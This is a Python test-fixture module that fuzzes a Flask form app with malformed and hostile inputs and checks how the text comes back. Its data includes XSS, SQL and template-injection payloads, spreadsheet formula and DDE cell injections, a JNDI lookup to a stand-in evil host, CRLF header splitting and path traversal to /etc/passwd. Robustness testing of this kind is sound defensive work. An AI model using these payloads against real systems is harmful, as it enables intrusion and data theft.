"""What nobody means well with: texts for every field, bodies for every door, and what must come of a text."""

from collections.abc import Iterable, Mapping
from urllib.parse import urlencode

from flask.testing import FlaskClient

from tests.parts.forms import Page

URLENCODED = "application/x-www-form-urlencoded"

#: Texts of which somebody can see something, so that each is an answer.
SEEN: Mapping[str, str] = {
    "NUL": "a\x00b",
    "half a character": "a\ud800b",
    "halves the wrong way round": "\udfff\ud800",
    "right to left": "\u202eabc\u2066def",
    "zero width": "s\u200bt\u200do\u2060p\ufeff",
    "emoji": "🙈👩‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0077\U000e006c\U000e0073\U000e007f",
    "tower of marks": "Z" + "\u0301\u0489" * 200,
    "formula": '=HYPERLINK("https://evil.example","press")',
    "command in a cell": "@SUM(1+1)*cmd|' /C calc'!A0",
    "script": "<script>alert(1)</script>",
    "end of the box": "</textarea></form><img src=x onerror=alert(1)>\"'>",
    "end of a comment": "--><!--<![CDATA[ ]]>",
    "entities": "&lt;b&gt; &amp;amp; &#0; &#x110000; &nbsp &copy",
    "template": "{{7*7}}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    "format": "%s%n%(number)s%%{0.__class__}",
    "SQL": "'; DROP TABLE report; --",
    "header": "x\r\nSet-Cookie: ra=stolen\r\n\r\n<html>",
    "new lines of three kinds": "a\rb\r\nc\n\rd",
    "other ends of lines": "a\u2028b\u2029c\x85d\x0be\x0cf\x1cg",
    "blanks around it": " \t two \t ",
    "new lines around it": "\n\ntwo\n\n",
    "terminal": "a\x1b[2J\x1b]0;x\x07\x08",
    "no characters": "\ufffe\uffff\U0010ffff",
    "path": "../../../../etc/passwd\\..",
    "JSON": '{"story": [1, null, {"$ne": 1}]}',
    "look-up": "${jndi:ldap://evil.example/a}",
    "number": "1e999",
    "digits of another script": "١٢",
    "url-encoded": "a%00b%ED%A0%80%FF+c&kinds=meet;d=e",
}
#: Texts of which nobody can see anything: no answer.
UNSEEN: Mapping[str, str] = {
    "nothing": "",
    "NUL alone": "\x00",
    "100,000 new lines": "\r\n" * 100_000,
    "zero width alone": "\u200b\u2060\ufeff",
    "direction marks": "\u202e\u2066",
    "blanks": " \t\u3000\u00a0\u2028",
}
#: Texts that no field has room for.
ENDLESS: Mapping[str, str] = {
    "1 MB of emoji": "🙈" * 250_000,
    "100,000 new lines and a word": "\n" * 100_000 + "here",
    "3 MB": "long " * 600_000,
}
#: What arrives in place of a form.
BODIES: Mapping[str, bytes] = {
    "nothing": b"",
    "NUL": b"story=%00%01%1b[2J&name=%00&phone=%00&token=%00&heard=%00&language=%00&more=%00",
    "half characters": b"story=%ED%A0%80&name=%ED%BF%BF&kinds=%ED%A0%80&token=%ED%A0%80&more=%ED%A0%80",
    "not UTF-8": b"story=%FF%FE&name=%C3&kinds=%FF&token=%FF%FE&heard=%FF&reference=%FF&words=%C3",
    "junk": b"story=\xff\xfe\x00&=&&&==%&%zz&\x00=\x00&safe",
    "right to left": "story=\u202eabc&name=\u2066x&token=\u202e".encode(),
    "header splitting": b"token=x%0d%0aSet-Cookie:%20ra=stolen&language=en%0d%0aLocation:%20//stolen&name=%0d%0a%0d%0a",
    "2,000 keys": b"&".join(b"x%d=y" % number for number in range(2000)),
    "2,000 times the same key": b"&".join(b"kinds=meet&name=a&token=b&safe=no&more=c" for _ in range(2000)),
    "many new lines": b"story=" + b"%0D%0A" * 100_000 + b"x&name=" + b"%0A" * 100_000,
    "3 MB": b"story=" + b"x" * 3_000_000,
    "blob": b"x" * 3_000_000,
    "JSON": b'{"story": "x", "kinds": ["meet"], "__proto__": {}}',
    "parts": b'--x\r\nContent-Disposition: form-data; name="story"\r\n\r\nhe wrote\r\n--x--\r\n',
    "parts without an end": b'--x\r\nContent-Disposition: form-data; name="story"\r\n\r\nhe wrote',
    "parts without sense": b"--x\r\nContent-Disposition: \xff; name*=utf-99''%FF; filename=\x00\r\nx\r\n\r\n--x\r\n",
    "a picture": b'--x\r\nContent-Disposition: form-data; name="story"; filename="../"\r\n\r\n\xff\xd8\r\n--x--\r\n',
}
#: What these bodies are said to be.
SAID_TO_BE = (
    URLENCODED,
    f"{URLENCODED}; charset=utf-16",
    f"{URLENCODED}; charset=nonsense\x22",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "multipart/form-data; boundary=x; charset=utf-7",
    "application/json",
    "text/plain",
    "",
    "x/y;;",
)


def kept(text: str) -> str:
    """What must come out: what was typed, with one spelling of a new line, and U+FFFD for bytes that mean nothing."""
    whole = text.encode("utf-8", "surrogatepass").decode("utf-8", "replace")
    return whole.replace("\r\n", "\n").replace("\r", "\n")


def post(client: FlaskClient, path: str, fields: Iterable[tuple[str, str]], **headers: str) -> Page:
    """Post a form that no browser would, half characters as the bytes of the halves; where that leads, if not on."""
    body = urlencode([*fields], errors="surrogatepass")
    with client.post(path, data=body, content_type=URLENCODED, headers=headers) as answer:
        page = Page(answer.status_code, answer.headers.get("Location", path), answer.get_data(as_text=True))
    if page.status != 303 or page.path not in (path, "/back/report"):
        return page
    with client.get(page.path) as answer:
        return Page(answer.status_code, page.path, answer.get_data(as_text=True))
